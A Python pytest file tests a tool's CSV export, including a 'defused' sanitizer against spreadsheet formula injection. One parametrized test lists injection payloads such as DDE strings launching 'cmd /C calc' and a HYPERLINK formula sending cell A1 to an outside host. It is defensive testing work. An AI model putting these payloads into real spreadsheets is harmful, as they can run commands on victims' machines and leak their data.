"""The table for spreadsheets: what a spreadsheet would calculate, it does not."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from batcher.errors import OutputError
from batcher.report import table
from batcher.report.table import defused, save_table, write_table


def row(name: str = "a", **changes: object) -> dict[str, object]:
    return {
        "id": name, "row": 1, "source": "b.csv:2", "state": "done", "job": "raw", "model": "acme/paint", "request_id": "r", "inputs": {}, "body": {},
        "input_files": [], "axes": {}, "attempts": 1, "submitted_at": None, "cost_usd": 0.08, "failure": None,
        "files": [{"path": "results/a.png", "sha256": "ab", "size_bytes": 9, "media_type": "image/png", "width": 4, "height": 3}],
        "timings": {"queued_s": 1.5, "running_s": None, "download_s": 0.1}, **changes,
    }  # fmt: skip


def written(folder: Path, *rows: dict[str, object]) -> list[dict[str, str]]:
    (folder / "results.jsonl").write_text("".join(json.dumps(each) + "\n" for each in rows), "utf-8")
    file = io.StringIO(newline="")
    write_table(folder, file)
    return list(csv.DictReader(io.StringIO(file.getvalue())))


def test_a_row_is_a_line_with_a_column_for_every_field_of_any_row(tmp_path: Path) -> None:
    failure = {"kind": "rejected", "message": "no", "remedy": "do"}
    first, second = written(
        tmp_path,
        row("a", inputs={"prompt": 'a mug,\n"red"', "seed": -7}, axes={"style": "oil"}),
        row("b", inputs={"prompt": "ü", "parts": [1, {"x": None}], "clear": True}, files=[], failure=failure, cost_usd=None),
    )
    assert list(first) == list(second)
    assert (first["id"], first["cost_usd"], first["queued_s"], first["running_s"], first["files"]) == ("a", "0.08", "1.5", "", "1")
    assert (first["input.prompt"], first["input.seed"], first["axis.style"]) == ('a mug,\n"red"', "-7", "oil")
    assert (first["file"], first["sha256"], first["width"]) == ("results/a.png", "ab", "4")
    assert (second["input.prompt"], second["input.seed"], second["input.parts"], second["input.clear"]) == ("ü", "", '[1, {"x": null}]', "true")
    assert (second["failure_kind"], second["failure_message"], second["failure_remedy"], second["file"]) == ("rejected", "no", "do", "")


@pytest.mark.fault("G1")
@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("http://x/?"&A1,"more")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|'A1'!A0", "\t=1+1", "\r=1+1", "\n=1",
        " =1+1", "＝1+1", "＋1", "－1", "＠A1", '"=1+1', "'=1+1", "\0=1+1", "a;=1+1", "a; =1+1", "a\n=1+1", "a\t@A1", 'a";"=1+1',
    ],
)  # fmt: skip
def test_no_cell_is_a_formula(tmp_path: Path, attack: str) -> None:
    [found] = written(tmp_path, row(attack, inputs={attack: attack}, failure={"kind": "rejected", "message": attack, "remedy": attack}))
    hostile = [cell for cell in [*found.keys(), *found.values()] if "1" in cell or "cmd" in cell or "A1" in cell]
    assert len(hostile) >= 4
    for separator in ",;\t\n":
        for cell in hostile:
            assert not any(
                part.lstrip(' "\0').startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")) for part in cell.split(separator)
            ), cell


@pytest.mark.fault("G1")
@given(st.text(alphabet="=+-@;\t\r\n \"'a1,\0", max_size=12))
def test_no_text_whatever_makes_one(text: str) -> None:
    safe = defused(text)
    assert not re.match(r"[\s\"]*[=+\-@]", safe)
    assert not re.search(r"[;\t\r\n][ \"]*[=+\-@]", safe)
    assert safe.replace("'", "") == text.replace("'", "").replace("\0", "")


def test_harmless_texts_are_left_alone() -> None:
    for text in ("a mug", "first - second", "a=b", "me@example.org", "1-2", "", "ein Müsli; zwei", "line\nline"):
        assert defused(text) == text


def test_the_number_of_columns_has_an_end(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(table, "MOST_COLUMNS", 3)
    found = written(tmp_path, *(row(f"r{n}", inputs={f"field{n}": "x", "prompt": "y"}) for n in range(9)))
    assert len([name for name in found[0] if name.startswith("input.")]) == 3
    assert len(found) == 9


def test_a_file_begins_with_a_byte_order_mark_and_is_whole_or_not_there(tmp_path: Path) -> None:
    (tmp_path / "results.jsonl").write_text(json.dumps(row("ü")) + "\n", "utf-8")
    target = tmp_path / "rows.csv"
    save_table(tmp_path, target)
    assert target.read_bytes().startswith(b"\xef\xbb\xbfid,row,")
    assert "ü" in target.read_text("utf-8-sig")
    (tmp_path / "results.jsonl").unlink()
    before = target.read_bytes()
    with pytest.raises(OutputError, match="cannot be written"):
        save_table(tmp_path, target)
    assert target.read_bytes() == before
    assert [path.name for path in tmp_path.iterdir()] == ["rows.csv"]
